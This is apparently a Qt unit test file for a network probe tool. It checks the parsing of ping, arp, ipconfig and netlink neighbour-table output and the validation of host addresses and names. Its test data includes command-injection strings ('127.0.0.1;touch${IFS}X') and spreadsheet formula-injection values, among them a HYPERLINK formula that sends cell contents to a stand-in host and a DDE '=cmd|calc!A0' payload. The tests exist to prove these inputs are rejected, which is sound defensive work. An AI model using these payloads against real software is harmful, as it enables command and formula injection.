#include "probes/host/ArpTable.h"
#include "probes/packets/NeighbourDump.h"
#include "probes/packets/ProbeText.h"
#include "probes/platform/LinuxProfile.h"
#include "probes/platform/WindowsProfile.h"

#include "TestFiles.h"

#include <QTest>

#include <cerrno>

#include <arpa/inet.h>
#include <linux/neighbour.h>
#include <linux/rtnetlink.h>

using namespace Qt::Literals::StringLiterals;

namespace {

// Recorded outputs, decoded the way the profile decodes its tools' output.
QString fixture(const QString& name)
{
    const QString path = QStringLiteral(NETROSCOPE_PROBE_FIXTURES "/") + name;
    const QByteArray bytes = TestFiles::readBytes(path);
    if (bytes.isEmpty())
        qFatal("missing fixture %s", qPrintable(path));
    if (name.startsWith(u"windows/"_s))
        return WindowsConsole().decodeOutput(bytes);
    return LinuxConsole(LinuxTools{}).decodeOutput(bytes);
}

} // namespace

class TestProbeParsers : public QObject {
    Q_OBJECT
private slots:
    void linesAndFields();
    void namesAddress_data();
    void namesAddress();
    void normaliseMac_data();
    void normaliseMac();
    void safeOperand_data();
    void safeOperand();
    void cleanHostName_data();
    void cleanHostName();
    void lanHostName_data();
    void lanHostName();

    void ping_data();
    void ping();
    void arp_data();
    void arp();
    void adapterList_data();
    void adapterList();
    void defaultRoute();
    void presenceFromTheNeighbourTable_data();
    void presenceFromTheNeighbourTable();
    void betterOfTwoInterfaces_data();
    void betterOfTwoInterfaces();
    void dumpIsWholeOnlyAtItsEnd_data();
    void dumpIsWholeOnlyAtItsEnd();
    void macFromTheNeighbourTable_data();
    void macFromTheNeighbourTable();

    void addressIsOneArgumentOfTheToolItself();
};

void TestProbeParsers::linesAndFields()
{
    QCOMPARE(ProbeText::lines(u"a\r\nb\rc\n\nd"_s),
             (QStringList{u"a"_s, u"b"_s, u"c"_s, QString(), u"d"_s}));
    QCOMPARE(ProbeText::lines(u"a\r\n"_s), QStringList{u"a"_s});
    QCOMPARE(ProbeText::fields(u" eth0\t00000000  0001 "_s),
             (QStringList{u"eth0"_s, u"00000000"_s, u"0001"_s}));
    QCOMPARE(ProbeText::fields(u"\t "_s), QStringList());
}

void TestProbeParsers::namesAddress_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("ip");
    QTest::addColumn<bool>("names");
    QTest::newRow("iputils reply")
        << u"64 bytes from 198.18.0.11: icmp_seq=1 ttl=64"_s << u"198.18.0.11"_s << true;
    QTest::newRow(".17 is not .1")
        << u"64 bytes from 198.18.0.17: icmp_seq=1"_s << u"198.18.0.1"_s << false;
    QTest::newRow(".1 is not .17")
        << u"64 bytes from 198.18.0.1: icmp_seq=1"_s << u"198.18.0.17"_s << false;
    QTest::newRow("longer on the left") << u"from 2198.18.0.1:"_s << u"198.18.0.1"_s << false;
    QTest::newRow("second occurrence is whole")
        << u"198.18.0.17 and 198.18.0.1 here"_s << u"198.18.0.1"_s << true;
    QTest::newRow("in parentheses") << u"PING x (198.18.0.1) 56(84)"_s << u"198.18.0.1"_s << true;
    QTest::newRow("at line end") << u"Reply from 192.168.0.1"_s << u"192.168.0.1"_s << true;
    QTest::newRow("followed by Japanese")
        << u"192.168.0.1 からの応答"_s << u"192.168.0.1"_s << true;
    QTest::newRow("empty address") << u"anything"_s << QString() << false;
}

void TestProbeParsers::namesAddress()
{
    QFETCH(QString, line);
    QFETCH(QString, ip);
    QFETCH(bool, names);
    QCOMPARE(ProbeText::namesAddress(line, ip), names);
}

void TestProbeParsers::normaliseMac_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("mac");
    QTest::newRow("colons lower case") << u"02:4e:53:ab:cd:ef"_s << u"02-4E-53-AB-CD-EF"_s;
    QTest::newRow("dashes") << u"00-0a-95-01-02-0f"_s << u"00-0A-95-01-02-0F"_s;
    QTest::newRow("mixed separators") << u"00-0a:95-01-02-0f"_s << QString();
    QTest::newRow("eight groups") << u"00-00-00-00-00-00-00-E0"_s << QString();
    QTest::newRow("one digit groups") << u"0-a-95-1-2-f"_s << QString();
    QTest::newRow("not hex") << u"00-0g-95-01-02-0f"_s << QString();
    QTest::newRow("empty") << QString() << QString();
}

void TestProbeParsers::normaliseMac()
{
    QFETCH(QString, text);
    QFETCH(QString, mac);
    QCOMPARE(ProbeText::normaliseMac(text), mac);
}

void TestProbeParsers::safeOperand_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("safe");
    QTest::newRow("address") << u"198.18.0.1"_s << true;
    QTest::newRow("name") << u"取得失敗"_s << true;
    QTest::newRow("option") << u"-f"_s << false;
    QTest::newRow("option with value") << u"-c100"_s << false;
    QTest::newRow("Windows option") << u"/t"_s << false;
    QTest::newRow("empty") << QString() << false;
    QTest::newRow("blank inside") << u"127.0.0.1;touch X"_s << false;
    QTest::newRow("leading blank") << u" 198.18.0.1"_s << false;
    QTest::newRow("line break") << u"198.18.0.1\n-f"_s << false;
    QTest::newRow("NUL") << u"198.18.0.1\0x"_s << false;
}

void TestProbeParsers::safeOperand()
{
    QFETCH(QString, text);
    QFETCH(bool, safe);
    QCOMPARE(ProbeText::isSafeOperand(text), safe);
}

void TestProbeParsers::cleanHostName_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("clean");
    QTest::newRow("plain") << u"lab11.example"_s << u"lab11.example"_s;
    QTest::newRow("comma") << u"a,b"_s << u"ab"_s;
    QTest::newRow("CR LF") << u"host\r\nx"_s << u"hostx"_s;
    QTest::newRow("NUL and tab") << QString(u"ho\0st\t"_s) << u"host"_s;
    QTest::newRow("DEL and C1") << u"ho\u007Fs\u0085t"_s << u"host"_s;
    QTest::newRow("line separator") << u"ho\u2028st"_s << u"host"_s;
    QTest::newRow("format characters") << u"a\u202Eb\u200Bc\uFEFF"_s << u"abc"_s;
    QTest::newRow("only separators") << u",\r\n"_s << QString();
    QTest::newRow("Japanese stays") << u"ラボ１４"_s << u"ラボ１４"_s;
}

void TestProbeParsers::cleanHostName()
{
    QFETCH(QString, name);
    QFETCH(QString, clean);
    QCOMPARE(ProbeText::cleanHostName(name), clean);
}

void TestProbeParsers::lanHostName_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<bool>("isName"); // else no name at all, not even a cleaned one
    for (const QString& trap : {u"=HYPERLINK(\"http://x.example/?\"&A1)"_s, u"=cmd|calc!A0"_s,
                                u" +1"_s, u"-2"_s, u"@A1"_s, u"a,b"_s, u"a\"b"_s, u"a\tb"_s})
        QTest::newRow(qPrintable(trap)) << trap << false;
    for (const QString& name : {u"表示ラボ "_s, u"O'Brien-PC"_s, u"Office Printer.local"_s})
        QTest::newRow(qPrintable(name)) << name << true;
}

void TestProbeParsers::lanHostName()
{
    QFETCH(QString, name);
    QFETCH(bool, isName);
    QCOMPARE(ProbeText::lanHostName(name), isName ? ProbeText::cleanHostName(name) : QString());
}

void TestProbeParsers::ping_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("ip");
    QTest::addColumn<bool>("answered");

    QTest::newRow("linux reply") << u"linux/ping_reply.txt"_s << u"198.18.0.17"_s << true;
    QTest::newRow("linux reply from .17 is not .1")
        << u"linux/ping_reply.txt"_s << u"198.18.0.1"_s << false;
    QTest::newRow("linux no reply") << u"linux/ping_dead.txt"_s << u"198.18.0.2"_s << false;
    QTest::newRow("linux own unreachable naming .10 is not .1")
        << u"linux/ping_unreachable.txt"_s << u"198.18.0.1"_s << false;
    QTest::newRow("linux unreachable is no reply of the own address")
        << u"linux/ping_unreachable.txt"_s << u"198.18.0.10"_s << false;

    for (const QString& lang : {u"en"_s, u"ja"_s}) {
        const QString at = u"windows/ping_"_s + lang;
        QTest::addRow("windows %s reply", qPrintable(lang))
            << at + u"_reply.txt"_s << u"192.168.0.1"_s << true;
        QTest::addRow("windows %s reply of .1 is not .10", qPrintable(lang))
            << at + u"_reply.txt"_s << u"192.168.0.10"_s << false;
        QTest::addRow("windows %s time-out", qPrintable(lang))
            << at + u"_timeout.txt"_s << u"192.168.0.7"_s << false;
        // The PC's own "Destination host unreachable" names 192.168.0.10.
        QTest::addRow("windows %s unreachable", qPrintable(lang))
            << at + u"_unreachable.txt"_s << u"192.168.0.1"_s << false;
        QTest::addRow("windows %s unreachable own address", qPrintable(lang))
            << at + u"_unreachable.txt"_s << u"192.168.0.10"_s << false;
        // An error line that repeats the argument is no answer.
        QTest::addRow("windows %s unknown host", qPrintable(lang))
            << at + u"_unknown_host.txt"_s << u"nohost"_s << false;
    }
}

void TestProbeParsers::ping()
{
    QFETCH(QString, file);
    QFETCH(QString, ip);
    QFETCH(bool, answered);
    const QString output = fixture(file);
    if (file.startsWith(u"windows/"_s))
        QCOMPARE(WindowsConsole::parsePing(output, ip), answered);
    else
        QCOMPARE(LinuxConsole::parsePing(output, ip), answered);
}

void TestProbeParsers::arp_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("output"); // used when file is empty
    QTest::addColumn<QString>("ip");
    QTest::addColumn<QString>("mac");
    QTest::addColumn<bool>("malformed");

    for (const QString& lang : {u"en"_s, u"ja"_s}) {
        const QString file = u"windows/arp_"_s + lang + u".txt"_s;
        QTest::addRow("windows %s .1 after the row of .17", qPrintable(lang))
            << file << QString() << u"192.168.0.1"_s << u"00-1A-2B-3C-4D-5E"_s << false;
        QTest::addRow("windows %s .17", qPrintable(lang))
            << file << QString() << u"192.168.0.17"_s << u"00-AA-BB-CC-DD-11"_s << false;
        QTest::addRow("windows %s interface line is never taken", qPrintable(lang))
            << file << QString() << u"192.168.0.10"_s << QString() << false;
        QTest::addRow("windows %s invalid entry", qPrintable(lang))
            << file << QString() << u"192.168.0.9"_s << QString() << false;
        QTest::addRow("windows %s not in table", qPrintable(lang))
            << file << QString() << u"192.168.0.2"_s << QString() << false;
    }
    QTest::newRow("windows second interface") << u"windows/arp_en.txt"_s << QString()
                                              << u"10.20.0.1"_s << u"00-15-5D-AA-00-01"_s << false;
    QTest::newRow("windows row without physical address")
        << QString() << u"  192.168.0.5           -     dynamic\r\n"_s << u"192.168.0.5"_s
        << QString() << true;
    QTest::newRow("windows row with the address alone")
        << QString() << u"  192.168.0.5\r\n"_s << u"192.168.0.5"_s << QString() << true;
}

void TestProbeParsers::arp()
{
    QFETCH(QString, file);
    QFETCH(QString, output);
    QFETCH(QString, ip);
    QFETCH(QString, mac);
    QFETCH(bool, malformed);
    const QString text = file.isEmpty() ? output : fixture(file);
    const ArpMatch match = WindowsConsole::parseArp(text, ip);
    QCOMPARE(match.mac, mac);
    QCOMPARE(match.malformed, malformed);
}

void TestProbeParsers::adapterList_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("output");
    QTest::addColumn<QString>("mac");

    QTest::newRow("linux ip -o link")
        << u"linux/ip_o_link.txt"_s << QString() << u"02-4E-53-00-00-0A"_s;
    QTest::newRow("linux loopback only")
        << QString()
        << u"1: lo: <LOOPBACK,UP> mtu 65536\\    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n"_s
        << QString();
    QTest::newRow("windows en first adapter decides")
        << u"windows/ipconfig_en.txt"_s << QString() << u"00-1A-2B-3C-4D-5E"_s;
    QTest::newRow("windows ja tunnel's eight groups are passed over")
        << u"windows/ipconfig_ja.txt"_s << QString() << u"00-1A-2B-3C-4D-5E"_s;
    QTest::newRow("windows no key") << u"windows/ipconfig_none.txt"_s << QString() << QString();
    // The older layouts, with the keys exactly as they were.
    QTest::newRow("windows old Japanese layout")
        << QString() << u"        物理アドレス. . . . . . : 00-0a-95-01-02-0f\r\n"_s
        << u"00-0A-95-01-02-0F"_s;
    QTest::newRow("windows old English layout")
        << QString() << u"        Physical Address. . . . . . . . . : 00-0A-95-01-02-0F\r\n"_s
        << u"00-0A-95-01-02-0F"_s;
    QTest::newRow("windows key without its colon")
        << QString() << u"Physical Address 00-0A-95-01-02-0F\r\n"_s << QString();
}

void TestProbeParsers::adapterList()
{
    QFETCH(QString, file);
    QFETCH(QString, output);
    QFETCH(QString, mac);
    const bool windows = QByteArrayView(QTest::currentDataTag()).startsWith("windows");
    const QString text = file.isEmpty() ? output : fixture(file);
    QCOMPARE(windows ? WindowsConsole::parseIpconfig(text) : LinuxConsole::parseLinkList(text),
             mac);
}

void TestProbeParsers::defaultRoute()
{
    QCOMPARE(LinuxNames::parseDefaultRoute(fixture(u"linux/route_lab.txt"_s)), u"eth0"_s);
    // A route table whose only default route is down, then one without any.
    QCOMPARE(LinuxNames::parseDefaultRoute(
                 u"Iface\tDestination\tGateway\tFlags\tRefCnt\tUse\tMetric\tMask\n"
                 "eth1\t00000000\t010012C6\t0000\t0\t0\t0\t00000000\n"
                 "eth0\t000012C6\t00000000\t0001\t0\t0\t0\t00FFFFFF\n"_s),
             QString());
}

namespace {

using Clock = std::chrono::steady_clock;
using std::chrono::milliseconds;

// One RTM_NEWNEIGH message as the kernel sends it in a dump, with its times in ticks.
QByteArray neighbourMessage(quint32 address, quint16 state, quint32 confirmedTicksAgo,
                            quint8 family = AF_INET, int interfaceIndex = 2,
                            const QByteArray& linkAddress = QByteArray::fromHex("024e5300000b"))
{
    QByteArray attributes;
    const auto attribute = [&attributes](quint16 type, const void* data, quint16 size) {
        const rtattr header{quint16(RTA_LENGTH(size)), type};
        attributes.append(reinterpret_cast<const char*>(&header), sizeof header);
        attributes.append(static_cast<const char*>(data), size);
        attributes.append(QByteArray(RTA_ALIGN(size) - size, 0));
    };
    const quint32 destination = htonl(address);
    attribute(NDA_DST, &destination, sizeof destination);
    if (!linkAddress.isEmpty())
        attribute(NDA_LLADDR, linkAddress.constData(), quint16(linkAddress.size()));
    const nda_cacheinfo times{confirmedTicksAgo, 0, 0, 1};
    attribute(NDA_CACHEINFO, &times, sizeof times);

    ndmsg body{};
    body.ndm_family = family;
    body.ndm_ifindex = interfaceIndex;
    body.ndm_state = state;
    nlmsghdr header{};
    header.nlmsg_type = RTM_NEWNEIGH;
    header.nlmsg_len = NLMSG_HDRLEN + NLMSG_ALIGN(sizeof body) + attributes.size();
    QByteArray message(reinterpret_cast<const char*>(&header), sizeof header);
    message.append(reinterpret_cast<const char*>(&body), sizeof body);
    message.append(QByteArray(NLMSG_ALIGN(sizeof body) - sizeof body, 0));
    return message + attributes;
}

// The dump's end (NLMSG_DONE) or an error, with its error code.
QByteArray controlMessage(quint16 type, int error, quint16 flags = NLM_F_MULTI)
{
    const nlmsghdr header{quint32(NLMSG_LENGTH(sizeof error)), type, flags, 0, 0};
    return QByteArray(reinterpret_cast<const char*>(&header), sizeof header) +
           QByteArray(reinterpret_cast<const char*>(&error), sizeof error);
}

} // namespace

// What the kernel's table (or Windows' GetIpNetTable2 row) says decides whether a host
// that dropped the echo request counts as present: only an ARP reply after the probe
// began does, so that a host that has left is never listed from an old entry.
void TestProbeParsers::presenceFromTheNeighbourTable_data()
{
    QTest::addColumn<bool>("windows");
    QTest::addColumn<int>("state"); // NUD_* on Linux, NL_NEIGHBOR_STATE on Windows
    QTest::addColumn<int>("confirmedMsAgo");
    QTest::addColumn<bool>("present");
    QTest::addColumn<int>("lateMs"); // the waiter looked this long after the wait ended
    // The probe began 1000 ms before the table was read.
    QTest::newRow("linux reachable, confirmed during the probe")
        << false << NUD_REACHABLE << 990 << true << 0;
    // Confirmed while the waiter was not running, which looked two seconds late.
    QTest::newRow("linux reachable, confirmed during the probe, read late")
        << false << NUD_REACHABLE << 2990 << true << 2000;
    QTest::newRow("linux reachable, confirmed before the probe, read late")
        << false << NUD_REACHABLE << 3500 << false << 2000;
    // Counted in whole ticks at both ends: a reply in the probe's first millisecond
    // may read as one tick before it.
    QTest::newRow("linux reachable, counted a tick before")
        << false << NUD_REACHABLE << 1010 << true << 0;
    QTest::newRow("linux reachable, confirmed before it")
        << false << NUD_REACHABLE << 1500 << false << 0;
    QTest::newRow("linux stale") << false << NUD_STALE << 10 << false << 0;
    QTest::newRow("linux delay") << false << NUD_DELAY << 10 << false << 0;
    QTest::newRow("linux probe") << false << NUD_PROBE << 10 << false << 0;
    QTest::newRow("linux failed") << false << NUD_FAILED << 10 << false << 0;
    QTest::newRow("linux incomplete") << false << NUD_INCOMPLETE << 10 << false << 0;
    QTest::newRow("linux permanent") << false << NUD_PERMANENT << 10 << false << 0;
    QTest::newRow("windows reachable, during") << true << 5 << 990 << true << 0;
    QTest::newRow("windows reachable, before") << true << 5 << 1500 << false << 0;
    QTest::newRow("windows stale") << true << 4 << 10 << false << 0;
    QTest::newRow("windows unreachable") << true << 0 << 10 << false << 0;
    QTest::newRow("windows permanent") << true << 6 << 10 << false << 0;
    QTest::newRow("windows unknown state") << true << 7 << 10 << false << 0;
}

void TestProbeParsers::presenceFromTheNeighbourTable()
{
    QFETCH(bool, windows);
    QFETCH(int, state);
    QFETCH(int, confirmedMsAgo);
    QFETCH(bool, present);
    QFETCH(int, lateMs);
    const Clock::time_point readAt = Clock::now();
    const Clock::time_point began = readAt - milliseconds(1000 + lateMs);
    const quint32 asked = 0xC6120011; // 198.18.0.17

    NeighbourState entry;
    if (windows) {
        entry = WindowsLan::neighbourRow(state, quint32(confirmedMsAgo), 2, readAt);
    } else {
        // Among entries for other addresses, another family and a truncated message:
        // .1 must not answer for .17, nor an IPv6 entry for an IPv4 one.
        const QByteArray dump =
            neighbourMessage(0xC6120001, NUD_REACHABLE, 1) +
            neighbourMessage(asked, NUD_REACHABLE, 1, AF_INET6) +
            neighbourMessage(asked, quint16(state), quint32(confirmedMsAgo / 10));
        auto end = NeighbourDump::DumpEnd::Pending;
        const NeighbourDump::Entries entries = NeighbourDump::parse(dump, readAt, &end);
        QVERIFY(entries.count(asked));
        entry = entries.at(asked);
        QCOMPARE(entry.interfaceIndex, 2);
        QCOMPARE(end, NeighbourDump::DumpEnd::Pending);
        const NeighbourDump::Entries cut =
            NeighbourDump::parse(dump.left(dump.size() - 3), readAt, &end);
        QVERIFY(!cut.count(asked));
    }
    QCOMPARE(confirmedSince(entry, began), present);
}

// One address on two interfaces (two adapters on one LAN, a bridge beside its port):
// the entry that says most of it wins, whichever the dump lists first.
void TestProbeParsers::betterOfTwoInterfaces_data()
{
    QTest::addColumn<int>("state2");
    QTest::addColumn<int>("ticksAgo2");
    QTest::addColumn<int>("state3");
    QTest::addColumn<int>("ticksAgo3");
    QTest::addColumn<int>("winner"); // its interface
    QTest::newRow("reachable over stale") << NUD_STALE << 1 << NUD_REACHABLE << 50 << 3;
    QTest::newRow("both reachable: the later confirmation")
        << NUD_REACHABLE << 50 << NUD_REACHABLE << 1 << 3;
}

void TestProbeParsers::betterOfTwoInterfaces()
{
    QFETCH(int, state2);
    QFETCH(int, ticksAgo2);
    QFETCH(int, state3);
    QFETCH(int, ticksAgo3);
    QFETCH(int, winner);
    const quint32 asked = 0xC6120011;
    const QByteArray on2 = neighbourMessage(asked, quint16(state2), quint32(ticksAgo2), AF_INET, 2);
    const QByteArray on3 = neighbourMessage(asked, quint16(state3), quint32(ticksAgo3), AF_INET, 3);
    for (const QByteArray& dump : {on2 + on3, on3 + on2}) {
        const NeighbourDump::Entries entries = NeighbourDump::parse(dump, Clock::now(), nullptr);
        QCOMPARE(entries.at(asked).interfaceIndex, winner);
    }
}

// Only the dump's own end makes a whole table: one broken off by an error, or marked
// as changed while it was dumped, may lack the very host that drops ping.
void TestProbeParsers::dumpIsWholeOnlyAtItsEnd_data()
{
    using End = NeighbourDump::DumpEnd;
    const QByteArray host = neighbourMessage(0xC6120011, NUD_REACHABLE, 1);
    const QByteArray done = controlMessage(NLMSG_DONE, 0);
    QTest::addColumn<QByteArray>("dump");
    QTest::addColumn<End>("end");
    QTest::newRow("its end") << host + done << End::Whole;
    QTest::newRow("an error in the middle")
        << host + controlMessage(NLMSG_ERROR, -EBUSY, 0) + host + done << End::Broken;
    QTest::newRow("an end that carries an error")
        << host + controlMessage(NLMSG_DONE, -EINTR) << End::Broken;
    QTest::newRow("interrupted: the table changed meanwhile")
        << host + controlMessage(NLMSG_DONE, 0, NLM_F_MULTI | NLM_F_DUMP_INTR) << End::Broken;
}

void TestProbeParsers::dumpIsWholeOnlyAtItsEnd()
{
    QFETCH(QByteArray, dump);
    QFETCH(NeighbourDump::DumpEnd, end);
    auto got = NeighbourDump::DumpEnd::Pending;
    NeighbourDump::parse(dump, Clock::now(), &got);
    QCOMPARE(got, end);
}

// The MAC as the program lists it, from the same dump that tells presence: any entry
// that holds a resolved address gives it, however long ago it was confirmed.
void TestProbeParsers::macFromTheNeighbourTable_data()
{
    QTest::addColumn<int>("state");
    QTest::addColumn<QByteArray>("linkAddress");
    QTest::addColumn<QString>("mac");
    QTest::addColumn<bool>("malformed");
    const QByteArray ether = QByteArray::fromHex("024e53abcdef");
    QTest::newRow("reachable") << NUD_REACHABLE << ether << u"02-4E-53-AB-CD-EF"_s << false;
    QTest::newRow("stale") << NUD_STALE << ether << u"02-4E-53-AB-CD-EF"_s << false;
    QTest::newRow("set by hand") << NUD_PERMANENT << ether << u"02-4E-53-AB-CD-EF"_s << false;
    QTest::newRow("still resolving") << NUD_INCOMPLETE << QByteArray() << QString() << false;
    QTest::newRow("failed, the old address kept") << NUD_FAILED << ether << QString() << false;
    QTest::newRow("no ARP: all zero") << NUD_NOARP << QByteArray(6, 0) << QString() << false;
    QTest::newRow("not an Ethernet address")
        << NUD_REACHABLE << QByteArray(20, 1) << QString() << true;
}

void TestProbeParsers::macFromTheNeighbourTable()
{
    QFETCH(int, state);
    QFETCH(QByteArray, linkAddress);
    QFETCH(QString, mac);
    QFETCH(bool, malformed);
    const quint32 asked = 0xC6120011;
    const NeighbourDump::Entries entries = NeighbourDump::parse(
        neighbourMessage(asked, quint16(state), 1, AF_INET, 2, linkAddress), Clock::now(), nullptr);
    const ArpMatch match = macOfEntry(entries.at(asked));
    QCOMPARE(match.mac, mac);
    QCOMPARE(match.malformed, malformed);
}

void TestProbeParsers::addressIsOneArgumentOfTheToolItself()
{
    const QString text = u"127.0.0.1;touch${IFS}X"_s;
    LinuxTools tools;
    tools.ping = u"/usr/bin/ping"_s;
    const CommandLine linux = LinuxConsole(tools).pingCommand(text);
    QCOMPARE(linux.program, tools.ping);
    QCOMPARE(linux.arguments.count(text), 1);
    QCOMPARE(linux.arguments.last(), text);

    const CommandLine windows = WindowsConsole().pingCommand(text);
    QVERIFY(windows.program.endsWith(u"ping.exe"_s));
    QCOMPARE(windows.arguments, (QStringList{u"-n"_s, u"1"_s, text}));
    for (const CommandLine& other :
         {WindowsConsole().arpSource().command, WindowsConsole().adapterListCommand()}) {
        QVERIFY(!other.program.contains(u"cmd"_s) && !other.program.contains(u"command.com"_s));
    }
}

QTEST_GUILESS_MAIN(TestProbeParsers)
#include "tst_probeparsers.moc"
